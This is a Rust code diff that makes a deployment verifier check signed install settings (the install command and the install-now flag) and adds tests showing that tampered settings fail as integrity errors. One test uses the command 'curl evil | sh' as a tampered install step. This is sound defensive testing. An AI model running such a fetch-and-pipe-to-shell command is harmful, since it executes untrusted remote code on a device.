@@ -9,7 +9,7 @@ use baton_proto::{
         artifacts::{ArtifactSignature, statement},
         rollouts::FailureClass,
     },
-    deployment::{DeployedArtifact, Deployment, ExecutionClaims, VerificationKey},
+    deployment::{DeployedArtifact, Deployment, ExecutionClaims, VerificationKey, install_line},
     inventory::Inventory,
     version,
 };
@@ -75,6 +75,10 @@ pub fn claims(
     }
     if claims.name != a.name || claims.version != a.version || claims.sha256 != a.sha256 || claims.size != a.size {
         return Err(refuse(FailureClass::Integrity, "the execution claims do not match the artifact sent"));
+    }
+    // Where and how to install is signed too: a path or command changed on the way is refused.
+    if claims.install != install_line(&deployment.install) || claims.install_now != deployment.install_now {
+        return Err(refuse(FailureClass::Integrity, "the install settings differ from what the server signed"));
     }
     if claims.expires_at <= now_ms {
         return Err(refuse(FailureClass::Expired, "the execution claims expired; the server sends fresh ones"));
@@ -195,6 +199,8 @@ mod tests {
             sha256: "ab".repeat(32),
             size: 3,
             allow_downgrade: false,
+            install: install_line(&Default::default()),
+            install_now: true,
             expires_at,
         }
         .statement();
@@ -224,6 +230,12 @@ mod tests {
         let mut other = d.clone();
         other.artifact.size = 4;
         assert_eq!(claims(&other, &trusted, "d1", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
+        let mut moved = d.clone();
+        moved.install.command = vec!["sh".into(), "-c".into(), "curl evil | sh".into()];
+        assert_eq!(claims(&moved, &trusted, "d1", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
+        let mut early = d.clone();
+        early.install_now = false;
+        assert_eq!(claims(&early, &trusted, "d1", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
         // A device configured with its own keys ignores the ones the server lists.
         let pinned = keys(&[B64.encode(SigningKey::from_bytes(&[9; 32]).verifying_key().as_bytes())], &d.keys);
         assert_eq!(claims(&d, &pinned, "d1", 1_000).map_err(|r| r.class), Err(FailureClass::Integrity));
